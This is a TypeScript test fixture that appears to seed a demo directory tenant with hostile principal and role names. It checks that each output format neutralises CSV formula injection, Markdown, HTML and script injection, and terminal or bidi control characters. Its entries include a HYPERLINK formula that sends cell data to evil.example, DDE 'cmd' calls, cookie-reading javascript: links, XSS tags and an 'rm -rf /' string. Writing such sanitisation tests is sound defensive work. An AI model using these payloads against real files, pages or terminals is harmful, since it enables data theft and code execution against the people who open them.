// Names an attacker could give a principal or a role, carried by the demo tenant so that every run of
// `--demo` (and the e2e suite) shows how each output neutralises them: spreadsheet formulas (OWASP's CSV
// injection prefixes), Markdown and HTML, control characters that drive a terminal or reorder text, a name of
// the 256 characters Graph allows (learn.microsoft.com/graph/api/resources/user, displayName), and names
// that look like secrets but are data.

export interface DemoPayload {
  /** What it tries, for test names. */
  kind: string;
  /** Whose display name (user nick, `sp:`, `role:`) or description (`role-description:`) carries it. */
  carrier: string;
  value: string;
}

const LONG =
  "Nestor Wilke, Operations Manager for the Northwest Region, Facilities, Procurement, Fleet and Logistics, ";
const LONG_NAME = `${LONG}acting Head of Workplace Services and Business Continuity, member of the Change Advisory Board and the Crisis Team`;

export const DEMO_PAYLOADS: readonly DemoPayload[] = Object.freeze([
  { kind: "formula =", carrier: "grady.archie", value: '=HYPERLINK("https://evil.example/?d="&A1,"Grady Archie")' },
  { kind: "formula +", carrier: "pradeep.gupta", value: "+Pradeep Gupta+cmd|' /C calc'!A0" },
  { kind: "formula -", carrier: "miriam.graham", value: "-2+3+cmd|' /C calc'!A0 Miriam Graham" },
  { kind: "formula @", carrier: "yara.haddad", value: "@SUM(1+9)*cmd|' /C calc'!A0 Yara Haddad" },
  { kind: "formula tab", carrier: "ben.walters", value: "\t=Ben Walters" },
  { kind: "formula CR", carrier: "lee.gu", value: "\r=Lee Gu" },
  {
    kind: "markdown",
    carrier: "lidia.holloway",
    value: "# Lidia | **Holloway** [verify](javascript:alert(document.cookie)) `rm -rf /` _x_",
  },
  {
    kind: "html script",
    carrier: "raul.razo",
    value: `<script>alert("Raul Razo")</script><img src=x onerror="alert('Raul')">`,
  },
  {
    kind: "html style",
    carrier: "enrico.cattaneo",
    value: `Enrico 'Cattaneo' "</style><style>body{display:none}</style>`,
  },
  { kind: "control NUL ESC BEL", carrier: "jordan.lee", value: "Jordan Lee\u0000 \u001B[31m(Fabrikam)\u001B[0m\u0007" },
  { kind: "control bidi", carrier: "sam.taylor", value: "Sam Taylor (Northwind) \u202Eexe.txt\u2028\u2066" },
  { kind: "very long", carrier: "nestor.wilke", value: LONG_NAME.padEnd(256, ".") },
  {
    kind: "looks like a secret",
    carrier: "debra.berger",
    value: "Debra Berger AKIAIOSFODNN7EXAMPLE ghp_Demo0Name0Not0A0Token0000000000000",
  },
  {
    kind: "finding text: formula, markdown, html, control",
    carrier: "sp:Contoso HR Provisioning",
    value: "=Contoso HR Provisioning | **sync** \u001B[31m<script>alert(1)</script>\u001B[0m\u0007\u202E",
  },
  {
    kind: "role name: markdown, html, bidi",
    carrier: "role:Contoso Tier 2 Support",
    value: "Contoso Tier 2 Support [docs](javascript:alert(2)) <img src=x onerror=alert(3)> `x` \u202E",
  },
  {
    kind: "role description",
    carrier: "role-description:Contoso Tier 2 Support",
    value: "Resets passwords </style><script>alert(4)</script> \u001B[31mand reads BitLocker keys\u001B[0m",
  },
]);

/** The payload a carrier holds, or the given name when it holds none. */
export function payloadFor(carrier: string, otherwise: string): string {
  return DEMO_PAYLOADS.find((p) => p.carrier === carrier)?.value ?? otherwise;
}

/** The payload a carrier holds (for tests that look a principal or role up by name). */
export function demoPayload(carrier: string): string {
  const payload = DEMO_PAYLOADS.find((p) => p.carrier === carrier);
  if (!payload) throw new Error(`no demo payload on ${carrier}`);
  return payload.value;
}
